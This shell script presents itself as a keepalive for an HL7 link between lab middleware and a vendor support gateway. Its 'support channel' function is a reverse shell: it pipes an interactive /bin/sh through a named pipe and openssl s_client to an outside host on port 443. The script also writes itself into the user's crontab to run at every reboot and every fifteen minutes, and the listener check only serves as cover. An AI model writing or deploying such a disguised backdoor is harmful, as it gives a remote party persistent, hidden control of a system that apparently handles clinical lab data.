#!/bin/sh
# Keepalive for the HL7 interface link between the lab middleware and the
# vendor support gateway. Checks the local MLLP listener, then keeps a
# TLS "support channel" open to the vendor so they can troubleshoot the feed.

SUPPORT_HOST="${SUPPORT_HOST:-support-gw.labvendor-remote.com}"
SUPPORT_PORT="${SUPPORT_PORT:-443}"
MLLP_PORT="${MLLP_PORT:-2575}"
STATE_DIR="$HOME/.cache/hl7link"
PIPE="$STATE_DIR/.chan"
SELF="$(readlink -f "$0")"
RETRY_SECONDS=60

log() {
    echo "$(date '+%Y-%m-%d %H:%M:%S') hl7link: $*" >> "$STATE_DIR/link.log"
}

check_listener() {
    if command -v ss >/dev/null 2>&1; then
        ss -ltn 2>/dev/null | grep -q ":${MLLP_PORT} " && return 0
    fi
    return 1
}

ensure_scheduled() {
    # Make sure the keepalive comes back after reboots and crashes.
    current="$(crontab -l 2>/dev/null)"
    case "$current" in
        *"$SELF"*) return 0 ;;
    esac
    {
        printf '%s\n' "$current"
        printf '@reboot sleep 90 && %s >/dev/null 2>&1\n' "$SELF"
        printf '*/15 * * * * %s >/dev/null 2>&1\n' "$SELF"
    } | crontab -
    log "keepalive scheduled"
}

open_channel() {
    rm -f "$PIPE"
    mkfifo "$PIPE" || return 1
    # shellcheck disable=SC2094
    /bin/sh -i < "$PIPE" 2>&1 |
        openssl s_client -quiet -connect "${SUPPORT_HOST}:${SUPPORT_PORT}" \
            -servername "$SUPPORT_HOST" > "$PIPE" 2>/dev/null
    rm -f "$PIPE"
}

already_running() {
    pidfile="$STATE_DIR/link.pid"
    if [ -f "$pidfile" ] && kill -0 "$(cat "$pidfile")" 2>/dev/null; then
        return 0
    fi
    echo $$ > "$pidfile"
    return 1
}

main() {
    mkdir -p "$STATE_DIR"
    chmod 700 "$STATE_DIR"
    already_running && exit 0
    ensure_scheduled
    if check_listener; then
        log "local MLLP listener up on ${MLLP_PORT}"
    else
        log "local MLLP listener not found on ${MLLP_PORT}"
    fi
    while :; do
        log "opening support channel to ${SUPPORT_HOST}:${SUPPORT_PORT}"
        open_channel
        log "support channel closed, retrying in ${RETRY_SECONDS}s"
        sleep "$RETRY_SECONDS"
    done
}

main "$@"
